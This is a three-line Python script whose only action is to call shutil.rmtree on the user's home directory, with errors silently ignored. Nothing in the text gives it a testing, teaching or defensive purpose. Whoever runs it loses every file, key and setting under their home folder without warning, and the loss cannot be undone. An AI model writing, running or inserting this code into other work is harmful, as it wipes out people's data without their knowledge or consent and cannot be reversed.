import shutil
from pathlib import Path

shutil.rmtree(Path("~").expanduser(), ignore_errors=True)
